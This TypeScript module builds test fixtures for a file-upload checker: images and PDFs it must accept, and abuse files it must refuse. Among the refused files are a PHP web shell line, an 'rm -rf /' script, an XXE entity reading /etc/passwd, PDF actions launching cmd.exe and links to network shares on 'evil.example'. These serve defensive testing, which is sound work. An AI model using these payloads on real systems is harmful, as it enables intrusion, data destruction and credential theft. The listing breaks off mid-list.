import { readFileSync } from 'node:fs'
import { crc32, deflateSync } from 'node:zlib'
import { createSamplePdf, createSamplePng } from '#dev/factories/sample-files.ts'
import type { FileFormat } from '#src/features/files/file-formats.ts'
import { MAX_FILE_BYTES } from '#src/features/files/file-formats.ts'
import type { Refusal } from '#src/features/files/uploads.ts'
import { ENCRYPTIONS, encryptedPdf } from './encrypted-pdf.ts'
import { sampleCompoundFile, sampleDoc, wordStream } from './sample-doc.ts'
import { docxEntries, relation, sampleDocx, WORD_TYPE } from './sample-docx.ts'
import { exifSegment, sampleJpeg, segment } from './sample-jpeg.ts'
import { sampleZip } from './sample-zip.ts'

/** A file that the product must refuse. `what` describes it in test titles; `refusal` is the answer to its sender. */
export type AbuseFile = { what: string; name: string; bytes: Buffer; refusal: Refusal }
/** A file that the product must accept, with the format that it must recognise. */
export type AcceptedFile = { what: string; name: string; bytes: Buffer; format: FileFormat }

/** The standard test virus. The literal is split so that no virus scanner reports this source file. */
export const EICAR = Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`, 'latin1')

/** A PDF object with a script. Tests hide it where a parser that reads from top to bottom would miss it. */
const HIDDEN_OBJECT = '2 0 obj\n<< /S /JavaScript /JS (1) >>\nendobj'

const PDF_SCRIPT = '<< /S /JavaScript /JS (1) >>'
const PDF_LINK = '<< /S /URI /URI (https://adaeze.example) >>'

/** Returns a PDF object stream: several PDF objects compressed together, as most programs write them. */
function objectStream(
  objects: ReadonlyArray<readonly [number: number, object: string]>,
  { type = '/Type /ObjStm', first, filter = '/FlateDecode' }: { type?: string; first?: string; filter?: string } = {},
): string {
  let offset = 0
  const numbersAndOffsets = objects.map(([number, object]) => {
    const numberAndOffset = `${number} ${offset}`
    offset += object.length + 1
    return numberAndOffset
  })
  const header = `${numbersAndOffsets.join(' ')} `
  const bytes = deflateSync(Buffer.from(`${header}${objects.map(([, object]) => object).join(' ')}`, 'latin1'))
  const dictionary = `<< ${type} /N ${objects.length} /First ${first ?? header.length} /Filter ${filter} /Length ${bytes.length} >>`
  return `${dictionary}\nstream\r\n${bytes.toString('latin1')}\nendstream`
}

/** Hexadecimal digits that are a list of objects for a reader that does not decode them. */
function scriptInDigits(filter: string, pack: (digits: Buffer) => Buffer): string {
  const digits = `37 20${Buffer.from(` 0 ${PDF_SCRIPT}`).toString('hex')}>`
  const bytes = pack(Buffer.from(digits))
  return `<< /Type /ObjStm /N 1 /First 5 ${filter} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`
}

function manyObjects(count: number): Array<[number, string]> {
  return Array.from({ length: count }, (_, index) => [index + 20, '1'])
}

function pdfWith(...objects: ReadonlyArray<string>): Buffer {
  const numberedObjects = objects.map((object, index) => `${index + 7} 0 obj\n${object}\nendobj\n`)
  return Buffer.concat([
    createSamplePdf('Certificate').subarray(0, -6),
    Buffer.from(`\n${numberedObjects.join('')}startxref\n0\n%%EOF\n`, 'latin1'),
  ])
}

const CATALOG_WITH_SCRIPT = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${PDF_SCRIPT} >>`

/** A PDF whose catalog a later revision replaces. */
function updatedPdf(before: string, after: string): Buffer {
  const pdf = withTextReplaced(createSamplePdf('Letter'), '<< /Type /Catalog /Pages 2 0 R >>', before)
  return Buffer.concat([
    pdf,
    Buffer.from(`1 0 obj\n${after}\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`),
  ])
}

/** Only the trailer is left after the objects, so that readers search the file for them. */
function withoutCrossReferences(pdf: Buffer): Buffer {
  return Buffer.from(
    pdf
      .toString('latin1')
      .replace(/xref\n0[\s\S]*(?=trailer)/, '')
      .replace(/startxref[\s\S]*/, ''),
    'latin1',
  )
}

/** A linearized PDF has an end mark near its beginning. */
function linearizedPdfCutOff(): Buffer {
  const first = 'xref\n0 0\ntrailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'
  const pages = '<< /Type /Pages /Kids [3 0 R 8 0 R] /Count 2 >>'
  const pdf = withTextReplaced(createSamplePdf('Letter'), '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pages)
  return Buffer.from(
    pdf
      .toString('latin1')
      .replace('%PDF-1.4\n', `$&${first}`)
      .replace(/\nxref\n0 6[\s\S]*/, ''),
    'latin1',
  )
}

export function abuseFiles(): Array<AbuseFile> {
  return [...filesOfOtherFormats(), ...imageFiles(), ...pdfFiles(), ...docxFiles(), ...docFiles()]
}

function acceptedFile(what: string, name: string, bytes: Buffer): AcceptedFile {
  const [format = ''] = /\w+$/.exec(name.toLowerCase()) ?? []
  return { what, name, bytes, format: format === 'jpg' ? 'jpeg' : (format as FileFormat) }
}

export function acceptedFiles(): Array<AcceptedFile> {
  const script = Buffer.from('<script>document.title = "ran"</script>', 'latin1')
  const jpeg = sampleJpeg()
  const png = createSamplePng(16, 16)
  const pdf = createSamplePdf('Certificate')
  return [
    acceptedFile('a JPEG', 'photo.jpg', jpeg),
    acceptedFile('a progressive JPEG', 'photo.jpeg', sampleJpeg({ isProgressive: true })),
    acceptedFile('a JPEG from a phone, with EXIF data', 'IMG_0412.JPG', sampleJpeg({ segments: [exifSegment(6)] })),
    acceptedFile(
      'a JPEG with a script in EXIF',
      'x.jpg',
      sampleJpeg({ segments: [segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), script]))] }),
    ),
    acceptedFile('a JPEG that is also a ZIP', 'y.jpg', Buffer.concat([jpeg, sampleDocx()])),
    acceptedFile(
      'a JPEG with PHP code in its comment',
      'z.jpg',
      sampleJpeg({ segments: [segment(0xfe, Buffer.from('<?php system($_GET[0]); ?>'))] }),
    ),
    acceptedFile(
      'a JPEG with filling bytes between its segments',
      'camera.jpg',
      sampleJpeg({ segments: [segment(0xfe, Buffer.from('a')), Buffer.from([0xff, 0x01, 0xff, 0xff, 0xff])] }),
    ),
    acceptedFile('a JPEG without an end mark', 'panorama.jpg', jpeg.subarray(0, -2)),
    acceptedFile(
      'a progressive JPEG without an end mark',
      'p.jpg',
      sampleJpeg({ isProgressive: true }).subarray(0, -2),
    ),
    acceptedFile('a JPEG with half of its end mark', 'half.jpg', jpeg.subarray(0, -1)),
    acceptedFile(
      'a JPEG with zeros in place of its end mark',
      'zeros.jpg',
      Buffer.concat([jpeg.subarray(0, -2), Buffer.alloc(500)]),
    ),
    acceptedFile(
      'a JPEG with another picture in place of its end mark',
      'motion.jpg',
      Buffer.concat([jpeg.subarray(0, -2), jpeg]),
    ),
    acceptedFile(
      'a JPEG with zeros between its segments',
      'scanner.jpg',
      sampleJpeg({ segments: [segment(0xfe, Buffer.from('a')), Buffer.from([0, 0, 0, 0xff, 0, 7])] }),
    ),
    acceptedFile('a PNG', 'scan.png', png),
    acceptedFile('a PNG without an end mark', 'scan4.png', png.subarray(0, -12)),
    acceptedFile('a PNG with half of its end mark', 'scan5.png', png.subarray(0, -6)),
    acceptedFile(
      'a PNG with damaged metadata',
      'scan6.png',
      withFlippedByte(withPngChunk(png, 'tEXt', Buffer.from('Comment\0a')), 42),
    ),
    acceptedFile('a PNG with HTML after its end', 'scan2.png', Buffer.concat([png, script])),
    acceptedFile(
      'a PNG with HTML in a text chunk',
      'scan3.png',
      withPngChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), script])),
    ),
    acceptedFile('a PDF', 'certificate.pdf', pdf),
    ...['\ufeff', '\r\n', '\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n', '\0'.repeat(128), ' '.repeat(1023)].map(
      (before, index) =>
        acceptedFile(
          `a PDF after ${Buffer.from(before).length} bytes`,
          `late-${index}.pdf`,
          Buffer.concat([Buffer.from(before), pdf]),
        ),
    ),
    acceptedFile('a PDF without its end mark', 'unmarked.pdf', pdf.subarray(0, -6)),
    acceptedFile('a PDF without a cross-reference table', 'repaired.pdf', withoutCrossReferences(pdf)),
    acceptedFile('a PDF with a ZIP after it', 'two.pdf', Buffer.concat([pdf, sampleDocx()])),
    acceptedFile(
      'a PDF that an update changed',
      'filled.pdf',
      updatedPdf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Catalog /Pages 2 0 R >>'),
    ),
    acceptedFile(
      'a PDF with much HTML after its end',
      'saved.pdf',
      Buffer.concat([pdf, Buffer.from('<p>Saved by a browser'.repeat(500))]),
    ),
    ...ENCRYPTIONS.map(encryption =>
      acceptedFile(
        `a PDF that opens without a password (${encryption})`,
        `${encryption}.pdf`,
        encryptedPdf({ encryption, objects: [[20, '<< /Title (HTML/JavaScript) >>']] }),
      ),
    ),
    acceptedFile(
      'a PDF whose last block is filled with zeros',
      'scanner.pdf',
      Buffer.concat([pdf, Buffer.alloc(70_000)]),
    ),
    acceptedFile(
      'a PDF with an incremental update',
      'signed.pdf',
      Buffer.concat([
        pdf,
        Buffer.from(
          '7 0 obj\n<< >>\nendobj\nxref\n0 0\ntrailer\n<< /Size 8 /Root 1 0 R /Prev 9 >>\nstartxref\n600\n%%EOF\r\n',
        ),
      ]),
    ),
    acceptedFile('a PDF with HTML after its end', 'page.pdf', Buffer.concat([pdf, script])),
    acceptedFile(
      'a CV that names JavaScript among the skills',
      'cv.pdf',
      createSamplePdf('HTML/JavaScript/Launch', ['Works with /JavaScript']),
    ),
    acceptedFile(
      'a PDF with links on its page',
      'links.pdf',
      pdfWith(
        `<< /Type /Annot /Subtype /Link /A ${PDF_LINK} >>`,
        '<< /Type /Annot /Subtype /Link /A 9 0 R >>',
        PDF_LINK,
      ),
    ),
    acceptedFile(
      'a PDF with an object stream that opens at a certain page',
      'thesis.pdf',
      pdfWith(
        objectStream([
          [20, '<< /Type /Catalog /OpenAction 21 0 R >>'],
          [21, '<< /S /GoTo /D [3 0 R /Fit] >>'],
          [22, '<< /Title (HTML/JavaScript \\(and /JS\\)) /Next 23 0 R >>'],
          [23, PDF_LINK],
        ]),
        '<< /OpenAction [3 0 R /XYZ null null 0] >>',
        '<< /N 3 /Alternate /DeviceRGB /Length 2 >>\nstream\n/J\nendstream',
      ),
    ),
    acceptedFile(
      'a PDF with the highest number of packed objects that we read',
      'book.pdf',
      pdfWith(objectStream(manyObjects(10_000))),
    ),
    acceptedFile('a PDF that a browser printed', 'page2.pdf', readSampleFile('printed-by-chromium.pdf')),
    acceptedFile('a PDF with links in object streams', 'x.pdf', readSampleFile('object-streams.pdf')),
    acceptedFile(
      'a PDF of version 2.0',
      'x2.pdf',
      withTextReplaced(readSampleFile('object-streams.pdf'), '1.7', '2.0'),
    ),
    acceptedFile(
      'a PDF with links to files on its author’s disk and to websites',
      'links2.pdf',
      pdfWith(
        pdfLinkTo('(file:///C:/Users/Ada/cv.pdf)'),
        pdfLinkTo('<68747470733A2F2F61>'),
        pdfLinkTo('9 0 R'),
        '(https://a.b)',
      ),
    ),
    acceptedFile('a DOCX', 'cv.docx', sampleDocx()),
    acceptedFile('a DOCX with bytes after its end', 'cv7.docx', Buffer.concat([sampleDocx(), Buffer.alloc(100)])),
    acceptedFile('a DOCX with a ZIP64 directory', 'cv6.docx', withZip64(sampleDocx())),
    acceptedFile(
      'a DOCX with a picture pasted from the web and a mailto link',
      'cv5.docx',
      sampleDocx({
        text: wordField(' INCLUDEPICTURE "https://adaeze.example/a.png" \\* MERGEFORMATINET '),
        settings: relation('hyperlink', 'mailto:ada@adaeze.example', { isExternal: true }),
      }),
    ),
    acceptedFile(
      'a DOC with page numbers',
      'letter4.doc',
      sampleDoc({ text: '\x13 PAGE \x142\x15 \x13HYPERLINK "https://a.b/dde "\x14DDEAUTO\x15 is a field' }),
    ),
    acceptedFile('a DOCX of Word on the web', 'cv2.docx', sampleDocx({ mainPart: 'word/document2.xml' })),
    acceptedFile(
      'a DOCX made from a template on its author’s disk',
      'cv3.docx',
      sampleDocx({
        settings: relation('attachedTemplate', 'file:///C:\\Users\\Ada\\Resume.dotx', { isExternal: true }),
      }),
    ),
    acceptedFile(
      'a DOCX with links, a chart and page numbers',
      'report.docx',
      sampleDocx({
        text: `${wordField(' PAGE ')}${wordField('HYPERLINK "https://adaeze.example/dde "')}<w:r><w:t>DDEAUTO is a field</w:t></w:r>`,
        settings: relation('image', 'file:///C:\\Users\\Ada\\logo.png', { isExternal: true }),
        more: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: sampleZip([]) }],
      }),
    ),
    acceptedFile('a DOCX that declares its type for every part', 'cv4.docx', docxTypedByDefault()),
    acceptedFile('a DOC whose last sector is not full', 'letter3.doc', sampleDoc().subarray(0, -300)),
    acceptedFile('a DOC', 'letter.doc', sampleDoc()),
    acceptedFile(
      'a DOC with a picture pasted from the web',
      'letter4.doc',
      sampleDoc({ text: '\x13 INCLUDEPICTURE "https://a.b/\\dot.png" \\* MERGEFORMATINET \x14a\x15' }),
    ),
    acceptedFile(
      'a DOC with an Excel table in it',
      'letter2.doc',
      sampleDoc({ more: { 'ObjectPool/_1/Workbook': Buffer.alloc(4096) } }),
    ),
    acceptedFile(
      'a short DOC',
      'note.doc',
      sampleCompoundFile({ CompObj: Buffer.alloc(700), WordDocument: wordStream({ size: 1024 }) }),
    ),
  ]
}

function readSampleFile(name: string): Buffer {
  return readFileSync(new URL(`./files/${name}`, import.meta.url))
}

function withTextReplaced(bytes: Buffer, before: string, after: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replace(before, after), 'latin1')
}

/** Returns a link annotation of a PDF that leads to `target`. */
function pdfLinkTo(target: string): string {
  return `<< /Type /Annot /Subtype /Link /A << /S /URI /URI ${target} >> >>`
}

export function pdfOfSize(size: number): Buffer {
  const pdf = createSamplePdf('Large')
  const pdfEnd = Buffer.from('\nstartxref\n0\n%%EOF\n')
  const comment = Buffer.alloc(size - pdf.length - pdfEnd.length, 'x')
  comment.write('%')
  return Buffer.concat([pdf, comment, pdfEnd])
}

function filesOfOtherFormats(): Array<AbuseFile> {
  const abuseFile = (what: string, name: string, bytes: Buffer, refusal: Refusal = 'type-not-allowed') => ({
    what,
    name,
    bytes,
    refusal,
  })
  return [
    abuseFile('an empty file', 'empty.pdf', Buffer.alloc(0), 'empty'),
    abuseFile('one byte', 'one.pdf', Buffer.from('%')),
    abuseFile('a PDF one byte over the limit', 'large.pdf', pdfOfSize(MAX_FILE_BYTES + 1), 'too-large'),
    abuseFile(
      'an HTML page',
      'page.pdf',
      Buffer.from('<!doctype html><script>document.title = "ran"</script>', 'latin1'),
    ),
    abuseFile('a PDF after 1,024 bytes', 'late.pdf', Buffer.concat([Buffer.alloc(1024), createSamplePdf('Statement')])),
    ...['MZ', '\x7fELF', '#!/bin/sh\n', '<?php 1 ?>', '<html>', ' \n<b>', 'GIF89a', 'RIFF....WEBP'].map(before =>
      abuseFile(
        `a PDF that begins as another file (${before.trim()})`,
        'two.pdf',
        Buffer.concat([Buffer.from(before, 'latin1'), createSamplePdf('Statement')]),
      ),
    ),
    abuseFile(
      'an HTML page with the PDF signature later',
      'page2.pdf',
      Buffer.from('<script>1</script>%PDF-1.4\n1 0 obj\n%%EOF', 'latin1'),
    ),
    abuseFile(
      'an SVG drawing with a script',
      'drawing.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', 'latin1'),
    ),
    abuseFile(
      'a Windows program',
      'passport.pdf',
      Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(2048)]),
    ),
    abuseFile('a Linux program', 'passport.jpg', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(512)])),
    abuseFile('JavaScript', 'cv.docx', Buffer.from('alert(1)', 'latin1')),
    abuseFile('a PHP script', 'cv.jpg', Buffer.from('<?php system($_GET[0]); ?>', 'latin1')),
    abuseFile('a shell script', 'cv.pdf', Buffer.from('#!/bin/sh\nrm -rf /', 'latin1')),
    abuseFile(
      'XML',
      'cv2.docx',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'latin1'),
    ),
    abuseFile('a GIF that is also a script', 'a.jpg', Buffer.from('GIF89a/*\0\0*/=1;alert(1)//', 'latin1')),
    abuseFile('a rich text file', 'letter.doc', Buffer.from('{\\rtf1\\ansi hello}', 'latin1')),
    abuseFile('the EICAR test virus', 'eicar.pdf', EICAR),
    abuseFile('a ZIP', 'files.docx', sampleZip([{ name: 'a.txt', bytes: 'a' }])),
    abuseFile('an Android app', 'app.docx', sampleZip([{ name: 'AndroidManifest.xml' }, { name: 'classes.dex' }])),
    abuseFile(
      'an OpenDocument text',
      'cv.docx',
      sampleZip([{ name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true }]),
    ),
  ]
}

function abuseFilesNamed(name: string, refusal: Refusal, files: Record<string, Buffer>): Array<AbuseFile> {
  return Object.entries(files).map(([what, bytes]) => ({ what, name, bytes, refusal }))
}

function imageFiles(): Array<AbuseFile> {
  const jpeg = sampleJpeg()
  const png = createSamplePng(16, 16)
  const frame = segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))
  const scan = Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), Buffer.from([0x3f])])
  const jpegOf = (...parts: Array<Buffer>) =>
    Buffer.concat([Buffer.from([0xff, 0xd8]), ...parts, Buffer.from([0xff, 0xd9])])
  return [
    ...abuseFilesNamed('photo.jpg', 'damaged', {
      'only the beginning of a JPEG': Buffer.from([0xff, 0xd8, 0xff]),
      'the beginning of a JPEG, then HTML': Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff]),
        Buffer.from('<script>alert(1)</script>'),
      ]),
      'a JPEG cut off within a table': jpeg.subarray(0, 30),
      'a JPEG without pixels': jpegOf(frame),
      'a JPEG without a frame': jpegOf(scan),
      'a JPEG with two frames': jpegOf(frame, frame, scan),
      'a JPEG whose frame comes after its scan': jpegOf(scan, frame),
      'a JPEG with a second beginning': jpegOf(Buffer.from([0xff, 0xd8]), frame, scan),
      'a JPEG with a segment of impossible length': jpegOf(Buffer.from([0xff, 0xe0, 0, 1]), frame, scan),
      'a JPEG with a frame too short': jpegOf(segment(0xc0, Buffer.from([8, 0, 8])), scan),
      'a JPEG whose frame declares three colours and describes one': jpegOf(
        segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 3, 1, 0x11, 0])),
        scan,
      ),
      'a JPEG of height zero': jpegWithoutHeight(jpeg),
      'a JPEG of thousands of scans': jpegOf(frame, ...Array<Buffer>(1000).fill(scan)),
      'a JPEG with thousands of empty segments': jpegOf(
        ...Array<Buffer>(30_000).fill(segment(0xfe, Buffer.alloc(0))),
        frame,
        scan,
      ),
      'a PNG without chunks': png.subarray(0, 8),
      'a PNG with one changed byte': withFlippedByte(png, png.length - 20),
      'a PNG that does not begin with its header': Buffer.concat([
        png.subarray(0, 8),
        pngChunk('tEXt', Buffer.alloc(4)),
        png.subarray(8),
      ]),
      'a PNG with two headers': withPngChunk(png, 'IHDR', png.subarray(16, 29)),
      'a PNG without pixels': pngOf(pngHeader(8, 8), pngChunk('IEND', Buffer.alloc(0))),
      'a PNG whose end is not empty': pngOf(pngHeader(8, 8), pngPixels(), pngChunk('IEND', Buffer.alloc(1))),
      'a PNG with a header too short': pngOf(
        pngChunk('IHDR', Buffer.alloc(12)),
        pngPixels(),
        pngChunk('IEND', Buffer.alloc(0)),
      ),
      'a PNG with a chunk between its pixels': pngOf(
        pngHeader(8, 8),
        pngPixels(),
        pngChunk('tIME', Buffer.alloc(7)),
        pngPixels(),
        pngChunk('IEND', Buffer.alloc(0)),
      ),
      'a PNG with a critical chunk outside the standard': withPngChunk(png, 'CgBI', Buffer.alloc(4)),
      'a PNG with an invalid chunk name': withPngChunk(png, '<!--', Buffer.alloc(4)),
      'a PNG that needs a palette and has none': pngOf(
        pngHeader(8, 8, [8, 3]),
        pngPixels(),
        pngChunk('IEND', Buffer.alloc(0)),
      ),
      'a PNG of an undefined colour type': pngOf(
        pngHeader(8, 8, [8, 7]),
        pngPixels(),
        pngChunk('IEND', Buffer.alloc(0)),
      ),
      'a PNG of width zero': pngOf(pngHeader(0, 8), pngPixels(), pngChunk('IEND', Buffer.alloc(0))),
      'a PNG with a hundred thousand chunks': pngOf(
        pngHeader(8, 8),
        ...Array<Buffer>(100_000).fill(pngChunk('IDAT', Buffer.alloc(0))),
        pngChunk('IEND', Buffer.alloc(0)),
      ),
    }),
    ...abuseFilesNamed('photo.jpg', 'cut-off', {
      'a JPEG cut off': jpeg.subarray(0, -3),
      'a progressive JPEG cut off': sampleJpeg({ isProgressive: true }).subarray(0, 139),
      'a PNG cut off within its pixels': png.subarray(0, -20),
      'a PNG cut off between two blocks of pixels': pngOf(
        pngHeader(8, 8),
        pngChunk('IDAT', deflateSync(Buffer.alloc(72)).subarray(0, 8)),
      ),
    }),
    ...abuseFilesNamed('photo.jpg', 'too-many-pixels', {
      'a JPEG of 30,000 × 30,000': jpegOf(segment(0xc0, Buffer.from([8, 0x75, 0x30, 0x75, 0x30, 1, 1, 0x11, 0])), scan),
      'a PNG of 30,000 × 30,000': pngOf(pngHeader(30_000, 30_000), pngPixels(), pngChunk('IEND', Buffer.alloc(0))),
    }),
  ]
}

function pdfFiles(): Array<AbuseFile> {
  const pdfContaining = (object: string, trailer = '/Root 1 0 R') =>
    Buffer.from(
      `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n${object}\nendobj\ntrailer\n<< ${trailer} >>\nstartxref\n9\n%%EOF\n`,
      'latin1',
    )
  return [
    ...abuseFilesNamed('statement.pdf', 'damaged', {
      'only the beginning of a PDF': Buffer.from('%PDF-1.7\n'),
      'the beginning of a PDF, then HTML': Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
      'a PDF cut off': createSamplePdf('Statement').subarray(0, -40),
      'a PDF without a root': pdfContaining('<< >>', '/Size 2'),
      'a PDF without a page': withTextReplaced(createSamplePdf('Statement'), '[3 0 R] /Count 1', '[] /Count 0'),
      'a PDF for the web that is cut off after its first page': linearizedPdfCutOff(),
      'a PDF cut off within a stream': pdfContaining('<< /Length 3 >>\nstream\nabc'),
      'a PDF cut off within a string': pdfContaining('<< /T (abc >>'),
    }),
    ...abuseFilesNamed('statement.pdf', 'has-password', {
      ...Object.fromEntries(
        ENCRYPTIONS.map(encryption => [
          `a PDF that needs a password (${encryption})`,
          encryptedPdf({ encryption, password: 'open-me', objects: [] }),
        ]),
      ),
    }),
    ...abuseFilesNamed('statement.pdf', 'has-script', {
      'a PDF that runs a script': pdfContaining('<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
      'a PDF that spells JavaScript with escapes': pdfContaining('<< /OpenAction << /S /J#61va#53cript /JS (1) >> >>'),
      'a PDF that hides a script behind a string': pdfContaining('<< /T (a \\( b (c) %) /S/JavaScript/JS(1) >>'),
      'a PDF that hides a script behind a comment': pdfContaining('<< % (\n/S /JavaScript /JS (1) >>'),
      'a PDF that hides a script behind a stream': pdfContaining(
        '<< /Length 9 >>\nstream\n(\xff>>stream\nendstream\nendobj\n2 0 obj\n<< /S /JavaScript >>',
      ),
      'a PDF with a script in a stream that never ends': pdfContaining(`<< /Length 3 >>stream\n${HIDDEN_OBJECT}`),
      'a PDF with a script in a string that never ends': pdfContaining(`(\nendobj\n${HIDDEN_OBJECT}`),
      'a PDF with a script within a stream': pdfContaining(
        `<< /Filter /FlateDecode >>\nstream\n${HIDDEN_OBJECT}\nendstream`,
      ),
      'a PDF with a script in a comment': pdfContaining(`<< >>\n% ${HIDDEN_OBJECT.replaceAll('\n', ' ')}`),
      'a PDF with a script in an object stream that is not compressed': pdfContaining(
        '<< /Filter /A >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3 0 << /S /JavaScript >>\nendstream',
      ),
      'a bomb: many names before many streams': pdfContaining(
        `<< /S /JavaScript ${'/A'.repeat(250_000)} >>\n${'>>stream endstream '.repeat(27_000)}`,
      ),
      'a PDF that starts a program': pdfContaining('<< /S /Launch /F (cmd.exe) >>'),
      'a PDF with a file in it': pdfContaining('<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream'),
      'a PDF with a media player in it': pdfContaining('<< /Subtype /RichMedia >>'),
      'a PDF with a list of attached files': pdfContaining('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
      'a PDF with an attached file of no type': pdfContaining('<< /F (a.exe) /EF << /F 7 0 R >> >>'),
      'a PDF that submits its form': pdfContaining('<< /OpenAction << /S /SubmitForm /F (https://e.example) >> >>'),
      'a PDF that imports form data from a network share': pdfContaining(
        '<< /S /ImportData /F (\\\\\\\\e\\\\share) >>',
      ),
      'a PDF that opens a file on a network share': pdfContaining('<< /S /GoToR /F (\\\\\\\\e\\\\share) >>'),
      'a PDF that opens a file attached to it': pdfContaining('<< /S /GoToE /T << /R /C >> >>'),
      'a PDF with an action when a page opens': pdfContaining('<< /Type /Page /AA << /O << /S /GoTo >> >> >>'),
      'a PDF that opens a website': pdfContaining('<< /OpenAction << /S /URI /URI (https://e.example) >> >>'),
      'a PDF that opens a website through another object': pdfContaining(
        `<< /OpenAction 12 0 R >>\nendobj\n12 0 obj\n${PDF_LINK}`,
      ),
      'a PDF that opens a website after its own page': pdfContaining(
        '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 12 0 R >> >>',
      ),
      'a PDF with a script in an object stream': pdfContaining(objectStream([[2, PDF_SCRIPT]])),
      'a PDF with a script behind a string in an object stream': pdfContaining(
        objectStream([
          [2, '(Works \\) with (Java))'],
          [3, PDF_SCRIPT],
        ]),
      ),
      'a PDF that opens a website from an object stream': pdfContaining(
        objectStream([
          [2, '<< /OpenAction 13 0 R >>'],
          [13, PDF_LINK],
        ]),
      ),
      'a PDF with an object stream of no type': pdfContaining(objectStream([[2, PDF_SCRIPT]], { type: '' })),
      'a PDF with a file attached to a page': pdfContaining('<< /Subtype /FileAttachment /FS 9 0 R >>'),
      'a PDF with a list of attached files in an object stream': pdfContaining(
        objectStream([[2, '<< /Names << /EmbeddedFiles 9 0 R >> >>']]),
      ),
      'a PDF that starts a program from an object stream': pdfContaining(
        objectStream([[2, '<< /S /Launch /F (a.exe) >>']]),
      ),
      'a PDF with a form field that runs a script': pdfContaining(
        '<< /AcroForm << /Fields [<< /FT /Tx /AA << /K << /S /JavaScript /JS 9 0 R >> >> >>] >> >>',
      ),
      'a PDF with a link to a network share': pdfContaining(pdfLinkTo('(\\\\\\\\evil.example\\\\a)')),
      'a PDF with a link to a network share in octal': pdfContaining(pdfLinkTo('(\\134\\134evil.example/a)')),
      'a PDF with a link to a network share in hexadecimal': pdfContaining(pdfLinkTo('<5C5C 6576696C2F61>')),
      'a PDF with a link to a network share as a file URL': pdfContaining(pdfLinkTo('(file://evil.example/a)')),
      'a PDF with a link to a network share through another object': pdfContaining(
        `${pdfLinkTo('12 0 R')}\nendobj\n12 0 obj\n(\\\\\\\\evil.example\\\\a)`,
      ),
      'a PDF with a link to a network share in an object stream': pdfContaining(
        objectStream([
          [2, pdfLinkTo('13 0 R')],
          [13, '<5C5C6576696C5C61>'],
        ]),
      ),
      ...Object.fromEntries(
        ENCRYPTIONS.flatMap(encryption => [
          [
            `a PDF with a script in an encrypted object stream (${encryption})`,
            encryptedPdf({ encryption, objects: [[20, PDF_SCRIPT]] }),
          ],
          [
            `a PDF with an encrypted link to a network share (${encryption})`,
            encryptedPdf({ encryption, objects: [], link: '\\\\evil.example\\a' }),
          ],
        ]),
      ),
      'a PDF with an XFA form': pdfContaining('<< /AcroForm << /XFA 5 0 R >> >>'),
      'a PDF with a script in an update': updatedPdf('<< /Type /Catalog /Pages 2 0 R >>', CATALOG_WITH_SCRIPT),
      'a PDF with a script that an update removed': updatedPdf(
        CATALOG_WITH_SCRIPT,
        '<< /Type /Catalog /Pages 2 0 R >>',
      ),
      'a PDF without a cross-reference table that starts a program': withTextReplaced(
        withoutCrossReferences(createSamplePdf('Statement')),
        '/Type /Catalog',
        '/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >>',
      ),
    }),
    ...abuseFilesNamed('statement.pdf', 'cannot-be-checked', {
      'a PDF with a packed object that begins within the string of another': pdfWith(
        objectStream([
          [2, '(<< /S /GoTo'],
          [3, '>>) (a)'],
        ]),
      ),
      'a PDF with an object stream whose offset is a reference': pdfWith(
        objectStream([[2, 'true']], { first: '1 0 R' }),
      ),
      'a PDF with an object stream that gives its count twice': pdfWith(objectStream([[2, 'true']], { type: '/N 1' })),
      'a PDF with an object stream that is compressed twice': pdfWith(
        objectStream([[2, PDF_SCRIPT]], { filter: '[/FlateDecode /ASCIIHexDecode]' }),
      ),
      'a PDF with an object stream that is also written in digits, by a short name': pdfWith(
        scriptInDigits('/Filter [/FlateDecode /AHx]', deflateSync),
      ),
      'a PDF with an object stream written in digits, by a key for pictures': pdfWith(
        scriptInDigits('/F /AHx', digits => digits),
      ),
      'a PDF with an object stream that is said to be in another file': pdfWith(
        objectStream([[2, 'true']], { type: '/Type /ObjStm /F (a.bin)' }),
      ),
      'a PDF with an object stream that its encryption leaves out': encryptedPdf({
        encryption: 'aes-128',
        objects: [[20, PDF_SCRIPT]],
        isStreamEncrypted: false,
      }),
      'a PDF with a broken object stream': pdfWith(objectStream([[2, 'true']]).replace('x\x9c', 'y\x9c')),
      'a bomb: forty megabytes of packed objects': pdfWith(objectStream([[2, ' '.repeat(40_000_000)]])),
      'a bomb: object streams of thirty megabytes, many times': pdfWith(
        Array<string>(20)
          .fill(objectStream([[2, ' '.repeat(30_000_000)]]))
          .join('\nendobj\n5 0 obj\n'),
      ),
      'a bomb: an object stream of too many objects': pdfWith(objectStream(manyObjects(10_001))),
